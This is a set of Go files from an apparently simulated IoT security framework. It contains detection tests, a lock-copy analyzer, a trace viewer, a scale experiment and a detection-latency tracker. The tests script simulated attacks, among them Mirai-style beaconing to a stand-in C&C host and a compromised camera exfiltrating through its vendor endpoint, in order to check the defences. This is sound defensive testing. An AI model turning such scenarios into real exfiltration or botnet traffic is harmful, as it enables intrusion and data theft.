	if !res.Succeeded {
		t.Fatalf("spoof rejected: %s", res)
	}
	sys.Home.Run(30 * time.Second)
	found := false
	for _, a := range sys.Core.AlertsFor("cam-1") {
		for _, e := range a.Evidence {
			if e.Kind == "no-rf-evidence" {
				found = true
			}
		}
	}
	if !found {
		t.Error("DFA-legal spoof escaped the RF-evidence check")
	}

	// A real motion event (with its uplink packet) is never flagged.
	sys2 := protectedSystem(t, 89)
	if err := sys2.Home.UserEvent("cam-1", "motion"); err != nil {
		t.Fatal(err)
	}
	sys2.Home.Run(30 * time.Second)
	for _, a := range sys2.Core.AlertsFor("cam-1") {
		for _, e := range a.Evidence {
			if e.Kind == "no-rf-evidence" {
				t.Errorf("real event flagged as spoofed: %s", a)
			}
		}
	}
}

func TestRogueAppCaughtByAppVerification(t *testing.T) {
	sys := protectedSystem(t, 19)
	env := sys.Home.AttackEnv()
	res := (&attack.RogueApp{
		AppID: "free-wallpaper", CoverDevice: "window-1", CoverCap: "contact",
		TargetDevice: "window-1", TargetCommand: "unlock",
	}).Execute(env)
	if !res.Succeeded {
		t.Fatalf("rogue app failed on flawed platform: %s", res)
	}
	sys.Home.Run(30 * time.Second)
	removed := true
	for _, id := range sys.Home.Cloud.Apps() {
		if id == "free-wallpaper" {
			removed = false
		}
	}
	if !removed {
		t.Error("rogue app not removed by containment")
	}
	foundSignal := false
	for _, a := range sys.Core.Alerts() {
		for _, e := range a.Evidence {
			if strings.HasPrefix(e.Kind, "rogue-app:") {
				foundSignal = true
			}
		}
	}
	if !foundSignal {
		t.Error("application verification produced no rogue-app evidence")
	}
}

func TestPolicyAbuseCaughtByContextAnalytics(t *testing.T) {
	sys := protectedSystem(t, 23)
	if err := sys.InstallApp(climateApp()); err != nil {
		t.Fatal(err)
	}
	// Winter night, nobody home.
	sys.SetContext(analytics.Context{OutdoorTempF: 28, UserHome: false})
	env := sys.Home.AttackEnv()
	res := (&attack.PolicyAbuse{ThermoID: "thermo-1", FakeTempF: 95}).Execute(env)
	if !res.Succeeded {
		t.Fatalf("policy abuse failed: %s", res)
	}
	sys.Home.Run(30 * time.Second)
	found := false
	for _, a := range sys.Core.Alerts() {
		for _, e := range a.Evidence {
			if strings.HasPrefix(e.Kind, "context:") {
				found = true
			}
		}
	}
	if !found {
		t.Error("contextual analytics missed the §IV-C3 abuse")
	}
	// The same automation on a hot day with the user home is fine.
	sys2 := protectedSystem(t, 29)
	if err := sys2.InstallApp(climateApp()); err != nil {
		t.Fatal(err)
	}
	sys2.SetContext(analytics.Context{OutdoorTempF: 95, UserHome: true})
	(&attack.PolicyAbuse{ThermoID: "thermo-1", FakeTempF: 95}).Execute(sys2.Home.AttackEnv())
	sys2.Home.Run(30 * time.Second)
	for _, a := range sys2.Core.Alerts() {
		for _, e := range a.Evidence {
			if strings.HasPrefix(e.Kind, "context:") {
				t.Errorf("benign summer automation flagged: %s", a)
			}
		}
	}
}

func climateApp() *service.SmartApp {
	above := 80.0
	return &service.SmartApp{
		ID: "climate-window",
		Rules: []service.Rule{{
			TriggerDevice: "thermo-1", TriggerEvent: "temperature", TriggerAbove: &above,
			ActionDevice: "window-1", ActionCommand: "open",
		}},
		Grants: []service.Grant{
			{DeviceID: "thermo-1", Capability: "temperature"},
			{DeviceID: "window-1", Capability: "lock"},
		},
	}
}

func TestFirmwareTamperCaughtByAttestation(t *testing.T) {
	sys := protectedSystem(t, 31)
	env := sys.Home.AttackEnv()
	res := (&attack.FirmwareModulation{Target: "cam-1"}).Execute(env)
	if !res.Succeeded {
		t.Fatalf("tamper failed: %s", res)
	}
	sys.Home.Run(2 * time.Minute)
	found := false
	for _, a := range sys.Core.AlertsFor("cam-1") {
		for _, e := range a.Evidence {
			if e.Kind == "firmware-tamper" || strings.HasPrefix(e.Kind, "dpi:") {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("firmware tamper not detected; alerts=%v", sys.Core.Alerts())
	}
}

func TestUnprotectedBaselineSeesNothing(t *testing.T) {
	sys, err := New(Options{Seed: 37, DisableProtection: true,
		Flaws: service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true}})
	if err != nil {
		t.Fatal(err)
	}
	if sys.Protected() {
		t.Fatal("Protected() = true")
	}
	env := sys.Home.AttackEnv()
	(&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 5 * time.Second}).Execute(env)
	sys.Home.Run(time.Minute)
	// Beacons flow freely without XLF.
	beacons := 0
	for _, r := range sys.Home.WANCap.Records() {
		if r.Dst == "wan:cnc" {
			beacons++
		}
	}
	if beacons == 0 {
		t.Error("expected unimpeded beacons on the unprotected baseline")
	}
	if strings.Contains(sys.Report(), "alerts:") {
		t.Error("unprotected report mentions alerts")
	}
}

func TestLearnedModelCatchesDFALessDeviceAbuse(t *testing.T) {
	sys := protectedSystem(t, 43)
	// The smart speaker has no automation DFA; XLF learned its typical
	// traces. A benign session (real device interactions, with their
	// radio traffic) raises nothing.
	for _, ev := range []string{"wake", "query", "response", "idle"} {
		if err := sys.Home.UserEvent("speaker-1", ev); err != nil {
			t.Fatal(err)
		}
	}
	sys.Home.Run(30 * time.Second)
	if got := sys.Core.AlertsFor("speaker-1"); len(got) != 0 {
		t.Fatalf("benign speaker session alerted: %v", got)
	}

	// A compromised speaker suddenly emits transitions never seen in
	// benign use (e.g. straight from idle into bulk exfil-style events).
	sys2 := protectedSystem(t, 47)
	for _, ev := range []string{"wake", "exfil", "exfil", "exfil"} {
		sys2.Home.Cloud.PublishDeviceEvent("speaker-1", ev, 0)
	}
	sys2.Home.Run(30 * time.Second)
	found := false
	for _, a := range sys2.Core.AlertsFor("speaker-1") {
		for _, e := range a.Evidence {
			if e.Kind == "unseen-transition" {
				found = true
			}
		}
	}
	if !found {
		t.Error("learned model missed the never-seen transitions")
	}
}

func TestDeterministicReplay(t *testing.T) {
	run := func() string {
		sys := protectedSystem(t, 99)
		env := sys.Home.AttackEnv()
		(&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 10 * time.Second}).Execute(env)
		sys.Home.Run(2 * time.Minute)
		return sys.Report()
	}
	a, b := run(), run()
	if a != b {
		t.Errorf("replay diverged:\n--- run1 ---\n%s\n--- run2 ---\n%s", a, b)
	}
}

func TestExfiltrationThroughEnrolledChannelCaughtByVolume(t *testing.T) {
	// A compromised camera exfiltrates through its own vendor endpoint:
	// the destination is enrolled (NAC passes) and the payload is
	// encrypted (DPI blind). Only the uplink volume baseline catches it.
	sys := protectedSystem(t, 101)
	// Let baselines warm up on normal keepalives first.
	sys.Home.Run(10 * time.Minute)
	sys.Home.Devices["cam-1"].Compromise("exfil-implant")
	sys.Home.Kernel.Every(time.Second, 100*time.Millisecond, "exfil", func() {
		if !sys.Home.Devices["cam-1"].Compromised {
			return
		}
		sys.Home.Gateway.SendOut(sys.Home.Net, &netsim.Packet{
			Src: "lan:cam-1", SrcPort: 7443,
			Dst: "wan:stream.smartcam.example", DstPort: 443,
			Proto: "TLS", Encrypted: true, Size: 1400, App: "attack:exfil",
		})
	})
	sys.Home.Run(sys.Home.Kernel.Now() + 5*time.Minute)
	found := false
	for _, a := range sys.Core.AlertsFor("cam-1") {
		for _, e := range a.Evidence {
			if e.Kind == "traffic-anomaly" {
				found = true
			}
		}
	}
	if !found {
		t.Error("enrolled-channel exfiltration escaped the volume baseline")
	}
}

func TestDetectionSurvivesPacketLoss(t *testing.T) {
	// Failure injection: degrade every LAN link to 10% loss after
	// assembly. Scan/brute-force/loader traffic is repetitive, so the
	// campaign must still be detected despite dropped evidence packets.
	sys := protectedSystem(t, 53)
	for id := range sys.Home.Devices {
		link, ok := sys.Home.Net.LinkOf(netsim.Addr("lan:" + id))
		if !ok {
			t.Fatalf("no link for %s", id)
		}
		link.Loss = 0.10
		if err := sys.Home.Net.SetLink(netsim.Addr("lan:"+id), link); err != nil {
			t.Fatal(err)
		}
	}
	env := sys.Home.AttackEnv()
	(&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 10 * time.Second}).Execute(env)
	sys.Home.Run(2 * time.Minute)
	if len(sys.Core.AlertsFor("cam-1")) == 0 {
		t.Error("campaign undetected under 10% packet loss")
	}
}

func TestShapingDoesNotConfuseOwnDetectors(t *testing.T) {
	// Rate-equalised cover traffic is machine-periodic by design; it must
	// not generate alerts against the home's own devices (shaped WAN
	// flows carry the gateway's address, which is never attributed).
	sys, err := New(Options{
		Seed:         67,
		ShapingLevel: 1.0,
		Flaws:        service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	sys.Home.Run(3 * time.Minute)
	if alerts := sys.Core.Alerts(); len(alerts) != 0 {
		t.Errorf("shaped benign home raised %d alerts: %v", len(alerts), alerts)
	}
	// Dummy cells are actually flowing.
	dummies := false
	if sys.Shaper.Stats().DummyPackets > 0 {
		dummies = true
	}
	if !dummies {
		t.Error("shaper emitted no cover traffic")
	}

	// And detection of a real campaign still works under shaping: the
	// evidence (LAN scans, DPI loader, NAC denials) is pre-shaper.
	sys2, err := New(Options{
		Seed:         71,
		ShapingLevel: 1.0,
		Flaws:        service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	(&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 10 * time.Second}).Execute(sys2.Home.AttackEnv())
	sys2.Home.Run(2 * time.Minute)
	if len(sys2.Core.AlertsFor("cam-1")) == 0 {
		t.Error("campaign undetected under full shaping")
	}
}

func TestLightweightEncryptionOption(t *testing.T) {
	sys, err := New(Options{Seed: 61, LightweightEncryption: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(sys.Home.Sessions) == 0 {
		t.Fatal("no channel sessions established")
	}
	sys.Home.Run(time.Minute)
	rep := sys.Report()
	if !strings.Contains(rep, "lightweight encryption sessions") {
		t.Errorf("report missing session inventory:\n%s", rep)
	}
	// Sealed traffic is flowing on the wire.
	sealed := 0
	for _, r := range sys.Home.WANCap.Records() {
		if r.Proto == "XLF-LWC" {
			sealed++
		}
	}
	if sealed == 0 {
		t.Error("no sealed keepalives observed")
	}
	// The unprotected baseline never establishes sessions even if asked.
	base, err := New(Options{Seed: 61, LightweightEncryption: true, DisableProtection: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(base.Home.Sessions) != 0 {
		t.Error("unprotected baseline created sessions")
	}
}

func TestReportContents(t *testing.T) {
	sys := protectedSystem(t, 41)
	sys.Home.Run(30 * time.Second)
	rep := sys.Report()
	for _, want := range []string{"XLF report", "network:", "NAC denials", "alerts:"} {
		if !strings.Contains(rep, want) {
			t.Errorf("report missing %q:\n%s", want, rep)
		}
	}
	// Figures render from the live architecture.
	if !strings.Contains(sys.Arch.RenderFigure4(), "Traffic shaping") {
		t.Error("figure 4 incomplete")
	}
}
