package analysis

import (
	"go/ast"
)

// LockCheck flags lock-by-value mistakes the compiler accepts silently: a
// sync.Mutex (or a struct holding one, directly or transitively through
// same-package value fields) that is passed, returned, or used as a method
// receiver by value. A copied mutex guards nothing — two goroutines each
// lock their own copy and the race detector only catches it if the
// schedule cooperates, so the mistake is banned statically.
//
// The check is AST-only (no type information): lock-holder struct types
// are resolved by name within the package under analysis, plus the
// sync.Mutex/sync.RWMutex spellings themselves. Test files are included;
// a racy test is still a race.
//
// This rule owns only the *identity* half of the lock contract (one
// mutex, never copied). The *balance* half — every Lock reaches its
// Unlock on all return and panic paths — is path-sensitive and is
// delegated to the CFG pairing engine via LockBalancePairs; earlier
// drafts carried a syntactic balance heuristic here, which the pairing
// engine obsoletes.
type LockCheck struct{}

// LockBalancePairs is the lock-balance contract lockcheck delegates to
// the pairing engine (see pairing.go): the XLF rule set feeds these to
// NewPairingAnalyzer so the balance findings are path-sensitive instead
// of heuristic.
var LockBalancePairs = []ReceiverPairSpec{
	{Acquire: "Lock", Release: "Unlock"},
	{Acquire: "RLock", Release: "RUnlock"},
}

// NewLockCheck builds the analyzer.
func NewLockCheck() *LockCheck { return &LockCheck{} }

// Name implements Analyzer.
func (l *LockCheck) Name() string { return "lockcheck" }

// Doc implements Documented.
func (l *LockCheck) Doc() string {
	return "lock-holder structs must not be copied or passed by value"
}

// isSyncLock reports whether expr spells sync.Mutex or sync.RWMutex,
// given the file's import name for "sync".
func isSyncLock(expr ast.Expr, syncName string) bool {
	sel, ok := expr.(*ast.SelectorExpr)
	if !ok {
		return false
	}
	recv, ok := sel.X.(*ast.Ident)
	if !ok || recv.Name != syncName {
		return false
	}
	return sel.Sel.Name == "Mutex" || sel.Sel.Name == "RWMutex"
}

// lockHolders resolves the package's lock-holder struct type names: any
// struct with a value field (named or embedded) of sync.Mutex/RWMutex or
// of another lock-holder type. Runs to a fixpoint so nesting is covered.
func lockHolders(pkg *Package) map[string]bool {
	type structDecl struct {
		name     string
		fields   *ast.FieldList
		syncName string
	}
	var structs []structDecl
	for _, f := range pkg.Files {
		syncName, hasSync := importName(f.AST, "sync")
		if !hasSync {
			syncName = "sync" // still resolves same-package holder nesting
		}
		ast.Inspect(f.AST, func(n ast.Node) bool {
			ts, ok := n.(*ast.TypeSpec)
			if !ok {
				return true
			}
			st, ok := ts.Type.(*ast.StructType)
			if !ok {
				return true
			}
			structs = append(structs, structDecl{ts.Name.Name, st.Fields, syncName})
			return true
		})
	}
	holders := make(map[string]bool)
	for changed := true; changed; {
		changed = false
		for _, s := range structs {
			if holders[s.name] || s.fields == nil {
				continue
			}
			for _, field := range s.fields.List {
				if isSyncLock(field.Type, s.syncName) {
					holders[s.name] = true
					changed = true
					break
				}
				if id, ok := field.Type.(*ast.Ident); ok && holders[id.Name] {
					holders[s.name] = true
					changed = true
					break
				}
			}
		}
	}
	return holders
}

// Check implements Analyzer.
func (l *LockCheck) Check(pkg *Package) []Finding {
	holders := lockHolders(pkg)
	var out []Finding
	for _, f := range pkg.Files {
		syncName, hasSync := importName(f.AST, "sync")
		byValueLock := func(expr ast.Expr) (string, bool) {
			if hasSync && isSyncLock(expr, syncName) {
				return "sync lock", true
			}
			if id, ok := expr.(*ast.Ident); ok && holders[id.Name] {
				return "struct " + id.Name + " (contains a sync lock)", true
			}
			return "", false
		}
		checkFieldList := func(fl *ast.FieldList, what, fn string) {
			if fl == nil {
				return
			}
			for _, field := range fl.List {
				if desc, ok := byValueLock(field.Type); ok {
					out = append(out, pkg.finding(l.Name(), field.Type.Pos(),
						"%s of %s copies %s by value; pass a pointer", what, fn, desc))
				}
			}
		}
		for _, decl := range f.AST.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok {
				continue
			}
			name := fd.Name.Name
			if fd.Recv != nil {
				for _, field := range fd.Recv.List {
					if desc, ok := byValueLock(field.Type); ok {
						out = append(out, pkg.finding(l.Name(), field.Type.Pos(),
							"method %s has a value receiver of %s; locking a copy guards nothing, use a pointer receiver", name, desc))
					}
				}
			}
			checkFieldList(fd.Type.Params, "parameter", name)
			checkFieldList(fd.Type.Results, "result", name)
		}
	}
	return out
}

var _ Analyzer = (*LockCheck)(nil)
