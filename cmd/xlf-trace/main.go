// Command xlf-trace renders an xlf-trace/v1 artifact (written by
// xlf-bench -trace or obs.WriteTrace) as a human-readable cross-layer
// timeline: which layer was active when, plus per-layer/op rollups with
// span counts and latency statistics. All times are simulation time.
//
// Usage:
//
//	xlf-trace trace.jsonl                 # timeline + rollups
//	xlf-trace -device cam-1 trace.jsonl   # one device's spans only
//	xlf-trace -layer core trace.jsonl     # one layer's spans only
//	xlf-trace -ops=false trace.jsonl      # timeline only
//	xlf-trace -width 100 trace.jsonl      # wider timeline
//
// The metrics subcommand renders an xlf-metrics/v1 telemetry artifact
// (written by xlf-bench -telemetry) instead:
//
//	xlf-trace metrics metrics.jsonl             # per-source rollups + dumps
//	xlf-trace metrics -src E10/1000 m.jsonl     # one source only
//	xlf-trace metrics -windows m.jsonl          # plus per-window activity
//
// Exit codes: 0 rendered, 1 unreadable/invalid artifact, 2 usage error.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"time"

	"xlf/internal/obs"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout))
}

func run(args []string, out io.Writer) int {
	if len(args) > 0 && args[0] == "metrics" {
		return runMetrics(args[1:], out)
	}
	fs := flag.NewFlagSet("xlf-trace", flag.ContinueOnError)
	fs.SetOutput(os.Stderr)
	var (
		device = fs.String("device", "", "only spans for this device ID")
		layer  = fs.String("layer", "", "only spans for this layer")
		width  = fs.Int("width", 72, "timeline width in columns")
		ops    = fs.Bool("ops", true, "render per-layer/op rollups")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "xlf-trace: exactly one trace file expected (try -h)")
		return 2
	}
	if *width < 10 {
		fmt.Fprintln(os.Stderr, "xlf-trace: -width must be >= 10")
		return 2
	}

	f, err := os.Open(fs.Arg(0))
	if err != nil {
		fmt.Fprintln(os.Stderr, "xlf-trace:", err)
		return 1
	}
	defer f.Close()
	meta, spans, err := obs.ReadTrace(f)
	if err != nil {
		fmt.Fprintln(os.Stderr, "xlf-trace:", err)
		return 1
	}

	total := len(spans)
	spans = filter(spans, *device, *layer)
	render(out, meta, spans, total, *width, *ops)
	return 0
}

// filter keeps spans matching the device and layer selectors ("" = all).
func filter(spans []obs.Span, device, layer string) []obs.Span {
	if device == "" && layer == "" {
		return spans
	}
	out := spans[:0:0]
	for _, s := range spans {
		if device != "" && s.Device != device {
			continue
		}
		if layer != "" && s.Layer != layer {
			continue
		}
		out = append(out, s)
	}
	return out
}

func render(out io.Writer, meta obs.TraceMeta, spans []obs.Span, total, width int, ops bool) {
	fmt.Fprintf(out, "trace %s  seed=%d clock=%s", meta.Schema, meta.Seed, meta.Clock)
	if meta.Source != "" {
		fmt.Fprintf(out, " source=%s", meta.Source)
	}
	fmt.Fprintf(out, "  spans=%d", total)
	if len(spans) != total {
		fmt.Fprintf(out, " (selected %d)", len(spans))
	}
	fmt.Fprintln(out)
	if meta.Evicted > 0 {
		fmt.Fprintf(out, "WARNING: %d spans were evicted from the ring buffer; the timeline is incomplete\n", meta.Evicted)
	}
	if len(spans) == 0 {
		fmt.Fprintln(out, "no spans")
		return
	}

	min, max := spans[0].Time, spans[0].Time
	byLayer := map[string][]obs.Span{}
	for _, s := range spans {
		if s.Time < min {
			min = s.Time
		}
		if s.Time > max {
			max = s.Time
		}
		byLayer[s.Layer] = append(byLayer[s.Layer], s)
	}
	layers := make([]string, 0, len(byLayer))
	for l := range byLayer {
		layers = append(layers, l)
	}
	sort.Strings(layers)

	fmt.Fprintf(out, "window  %s .. %s  (%s)\n\n", min, max, max-min)
	timeline(out, layers, byLayer, min, max, width)
	if ops {
		fmt.Fprintln(out)
		rollups(out, spans)
	}
}

// timeline draws one density row per layer: the window [min,max] is split
// into width buckets, and each cell's glyph encodes how many spans of that
// layer fall into the bucket.
func timeline(out io.Writer, layers []string, byLayer map[string][]obs.Span, min, max time.Duration, width int) {
	span := max - min
	name := 0
	for _, l := range layers {
		if len(l) > name {
			name = len(l)
		}
	}
	for _, l := range layers {
		counts := make([]int, width)
		for _, s := range byLayer[l] {
			i := 0
			if span > 0 {
				i = int(int64(s.Time-min) * int64(width) / (int64(span) + 1))
			}
			counts[i]++
		}
		row := make([]byte, width)
		for i, c := range counts {
			row[i] = glyph(c)
		}
		fmt.Fprintf(out, "%-*s |%s| %d\n", name, l, row, len(byLayer[l]))
	}
	fmt.Fprintf(out, "%-*s  %s%*s\n", name, "", min.String(), width-len(min.String())+1, max.String())
}

// glyph encodes a bucket count as one timeline cell.
func glyph(n int) byte {
	switch {
	case n == 0:
		return ' '
	case n == 1:
		return '.'
	case n <= 4:
		return ':'
	case n <= 16:
		return '*'
	default:
		return '#'
	}
}

// rollups prints one row per (layer, op): span count, first and last
// occurrence, and — for spans that carry a duration — avg and max latency.
func rollups(out io.Writer, spans []obs.Span) {
	type key struct{ layer, op string }
	type agg struct {
		count, timed   int
		first, last    time.Duration
		sumDur, maxDur time.Duration
	}
	m := map[key]*agg{}
	for _, s := range spans {
		k := key{s.Layer, s.Op}
		a := m[k]
		if a == nil {
			a = &agg{first: s.Time, last: s.Time}
			m[k] = a
		}
		a.count++
		if s.Time < a.first {
			a.first = s.Time
		}
		if s.Time > a.last {
			a.last = s.Time
		}
		if s.Dur > 0 {
			a.timed++
			a.sumDur += s.Dur
			if s.Dur > a.maxDur {
				a.maxDur = s.Dur
			}
		}
	}
	keys := make([]key, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		if keys[i].layer != keys[j].layer {
			return keys[i].layer < keys[j].layer
		}
		return keys[i].op < keys[j].op
	})

	fmt.Fprintf(out, "%-8s %-14s %7s  %-14s %-14s %-10s %s\n",
		"LAYER", "OP", "COUNT", "FIRST", "LAST", "AVG-DUR", "MAX-DUR")
	for _, k := range keys {
		a := m[k]
		avg, max := "-", "-"
		if a.timed > 0 {
			avg = (a.sumDur / time.Duration(a.timed)).String()
			max = a.maxDur.String()
		}
		fmt.Fprintf(out, "%-8s %-14s %7d  %-14s %-14s %-10s %s\n",
			k.layer, k.op, a.count, a.first, a.last, avg, max)
	}
}
