//go:build race

package netsim

func init() { raceEnabled = true }
