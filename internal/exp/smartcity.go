package exp

import (
	"fmt"
	"time"

	"xlf/internal/metrics"
	"xlf/internal/testbed"
)

// runE10 is the kernel scale experiment behind ROADMAP item 1: the
// smart-city fleet (testbed.City) at increasing device counts on one
// simulation kernel, reporting dispatch volume and sustained event
// throughput. The registry sweep stops at 50k devices so the full suite
// stays fast under -race; examples/smartcity runs the same scenario at
// one million devices.
//
// It is the E10 registry entry. Each scale point builds its own city from
// the seed, so the grid fans out across env.Workers; throughput is timed
// on env.Clock, and the rendered columns are simulation counts only, so
// the table replays byte-identically under a step clock.
func runE10(env *Env) *Result {
	r := &Result{ID: "E10", Title: "Smart-city scale: one kernel, 10^3..5*10^4 devices"}
	t := metrics.NewTable("", "Devices", "Districts", "Reports", "Delivered", "KernelEvents", "SimTime")

	scales := []int{1000, 10000, 50000}
	type point struct {
		st           testbed.CityStats
		eventsPerSec float64
	}
	rows := Sweep(env, len(scales), func(i int, env *Env) point {
		city, err := testbed.NewCity(testbed.CityConfig{
			Seed:        env.Seed,
			Devices:     scales[i],
			ReportEvery: 10 * time.Second,
			Horizon:     60 * time.Second,
		})
		if err != nil {
			panic(err)
		}
		start := env.Clock()
		st, err := city.Run()
		if err != nil {
			panic(err)
		}
		elapsed := env.Clock() - start
		p := point{st: st}
		if elapsed > 0 {
			p.eventsPerSec = float64(st.Events) / elapsed.Seconds()
		}
		return p
	})

	var events uint64
	for i, scale := range scales {
		st := rows[i].st
		if st.Dropped != 0 || st.Sent == 0 {
			panic(fmt.Sprintf("exp: E10 scale %d lost reports: %+v", scale, st))
		}
		events += st.Events
		t.AddRow(
			fmt.Sprintf("%d", st.Devices),
			fmt.Sprintf("%d", st.Districts),
			fmt.Sprintf("%d", st.Sent),
			fmt.Sprintf("%d", st.Delivered),
			fmt.Sprintf("%d", st.Events),
			st.Now.String(),
		)
	}

	r.Output = t.String()
	r.num("scales", float64(len(scales)))
	r.num("devices_max", float64(scales[len(scales)-1]))
	r.num("events_total", float64(events))
	// Host-dependent: excluded from Output so reports stay byte-identical.
	r.num("events_per_sec_max_scale", rows[len(rows)-1].eventsPerSec)
	return r
}
