package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// BenchmarkVetShardSafe measures the full cost of the ownership/shard-
// isolation family over the real tree: module load, tolerant type
// check, call-graph construction, the escape and phase fixed points,
// and the per-package checks. It is informational in CI (check.sh runs
// it with -benchtime=1x); the blocking budget is TestVetWarmWallBudget.
func BenchmarkVetShardSafe(b *testing.B) {
	root := repoRoot(b)
	base := filepath.Join(root, "vet-baseline.json")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		var stdout, stderr bytes.Buffer
		if code := run([]string{"-root", root, "-only", "shardsafe", "-baseline", base, "./..."}, &stdout, &stderr); code != 0 {
			b.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
		}
	}
}

// vetSeed mirrors bench/seed/VET.json, the committed wall-time budget
// for the warm-cache full-module run.
type vetSeed struct {
	Schema     string  `json:"schema"`
	WarmWallNS int64   `json:"warm_wall_ns"`
	Tolerance  float64 `json:"tolerance"`
}

// TestVetWarmWallBudget is the growth guard for analyzer cost: a
// warm-cache full-module run must finish within tolerance (1.25x) of
// the budget committed in bench/seed/VET.json. Wall-clock timing flaps
// on shared machines, so the guard only runs when check.sh/CI opt in
// with XLF_VET_WALL_GUARD=1, and it takes the best of three warm runs
// to shed scheduler noise.
func TestVetWarmWallBudget(t *testing.T) {
	if os.Getenv("XLF_VET_WALL_GUARD") != "1" {
		t.Skip("set XLF_VET_WALL_GUARD=1 to run the wall-time budget guard")
	}
	root := repoRoot(t)
	data, err := os.ReadFile(filepath.Join(root, "bench", "seed", "VET.json"))
	if err != nil {
		t.Fatal(err)
	}
	var seed vetSeed
	if err := json.Unmarshal(data, &seed); err != nil {
		t.Fatalf("bad bench/seed/VET.json: %v", err)
	}
	if seed.Schema != "xlf-vet-wall/v1" || seed.WarmWallNS <= 0 || seed.Tolerance < 1 {
		t.Fatalf("implausible budget: %+v", seed)
	}

	cacheDir := filepath.Join(t.TempDir(), "cache")
	vet := func() time.Duration {
		t.Helper()
		var stdout, stderr bytes.Buffer
		args := []string{"-root", root, "-baseline", filepath.Join(root, "vet-baseline.json"), "-cache-dir", cacheDir, "./..."}
		start := time.Now()
		if code := run(args, &stdout, &stderr); code != 0 {
			t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
		}
		return time.Since(start)
	}

	vet() // cold: populate the cache, never timed
	best := vet()
	for i := 0; i < 2; i++ {
		if d := vet(); d < best {
			best = d
		}
	}
	budget := time.Duration(float64(seed.WarmWallNS) * seed.Tolerance)
	t.Logf("warm vet: best of 3 = %v, budget = %v (%.2fx of %v)",
		best, budget, seed.Tolerance, time.Duration(seed.WarmWallNS))
	if best > budget {
		t.Fatalf("warm-cache vet took %v, over the %v budget — either make the analyzers cheaper or consciously re-record bench/seed/VET.json", best, budget)
	}
}
