package obs

import (
	"sort"
	"sync"
	"time"
)

// DetectionHistPrefix prefixes the per-attack-class latency histograms a
// DetectionTracker registers, so rollup windows and snapshot renderers
// can recognise them ("detect.latency_ns.mirai", ...). The suffix is the
// attack class; values are nanoseconds.
const DetectionHistPrefix = "detect.latency_ns."

// Counter names the tracker maintains in its registry.
const (
	// DetectInjected counts attack injections marked by the harnesses.
	DetectInjected = "detect.injected"
	// DetectDetected counts injections matched to a first alert.
	DetectDetected = "detect.detected"
	// DetectSLOBreach counts detections whose latency exceeded the SLO.
	DetectSLOBreach = "detect.slo_breach"
)

// DefaultDetectionSLO is the detection-latency objective used when a
// tracker is built with slo <= 0. Two simulated seconds is comfortably
// above the Core's E1 correlation windows and tight enough that a stuck
// detector breaches immediately.
const DefaultDetectionSLO = 2 * time.Second

// pendingInjection is one injected-but-undetected attack instance.
type pendingInjection struct {
	at    time.Duration
	class string
	hist  *Histogram
}

// DetectionStat is one attack class's latency summary from Stats.
type DetectionStat struct {
	Class string
	Count uint64
	P50   time.Duration
	P95   time.Duration
	P99   time.Duration
}

// DetectionTracker measures end-to-end detection latency: the harnesses
// mark the sim instant an attack touches a victim device (Inject), the
// Core (or a harness detector) reports the first alert naming that
// device (Observe), and the difference lands in a per-attack-class
// histogram registered as DetectionHistPrefix+class — so rollup windows
// carry p50/p95/p99 detection latency with no extra wiring. Latencies
// above the SLO bump DetectSLOBreach and fire the flight recorder's
// TriggerSLOBreach. A nil *DetectionTracker disables everything.
type DetectionTracker struct {
	mu      sync.Mutex
	slo     time.Duration
	reg     *Registry
	rec     *FlightRecorder
	pending map[string]pendingInjection

	injected *Counter
	detected *Counter
	breaches *Counter
}

// NewDetectionTracker builds a tracker registering its metrics in reg (a
// private registry when reg is nil) with the given latency SLO
// (DefaultDetectionSLO when slo <= 0).
//
//xlf:owned(obs)
func NewDetectionTracker(reg *Registry, slo time.Duration) *DetectionTracker {
	if reg == nil {
		reg = NewRegistry()
	}
	if slo <= 0 {
		slo = DefaultDetectionSLO
	}
	return &DetectionTracker{
		slo:      slo,
		reg:      reg,
		pending:  make(map[string]pendingInjection),
		injected: reg.Counter(DetectInjected),
		detected: reg.Counter(DetectDetected),
		breaches: reg.Counter(DetectSLOBreach),
	}
}

// SetRecorder binds the flight recorder that SLO breaches trigger.
// Nil-safe.
func (d *DetectionTracker) SetRecorder(rec *FlightRecorder) {
	if d == nil {
		return
	}
	d.mu.Lock()
	d.rec = rec
	d.mu.Unlock()
}

// SLO returns the configured latency objective. Nil-safe.
func (d *DetectionTracker) SLO() time.Duration {
	if d == nil {
		return 0
	}
	return d.slo
}

// Registry returns the registry the tracker's metrics live in. Nil-safe.
func (d *DetectionTracker) Registry() *Registry {
	if d == nil {
		return nil
	}
	return d.reg
}

// Inject marks that an attack of the given class touched device at the
// given sim time. If the device already carries an undetected injection
// the earlier one is kept — the first alert on a device answers for the
// earliest attack against it, which is the conservative (largest) latency
// reading. Cold path: attacks are rare events. Nil-safe.
func (d *DetectionTracker) Inject(at time.Duration, class, device string) {
	if d == nil || device == "" {
		return
	}
	d.mu.Lock()
	d.injected.Inc()
	if _, dup := d.pending[device]; !dup {
		d.pending[device] = pendingInjection{
			at:    at,
			class: class,
			hist:  d.reg.Histogram(DetectionHistPrefix + class),
		}
	}
	d.mu.Unlock()
}

// Observe reports that an alert named device at the given sim time. When
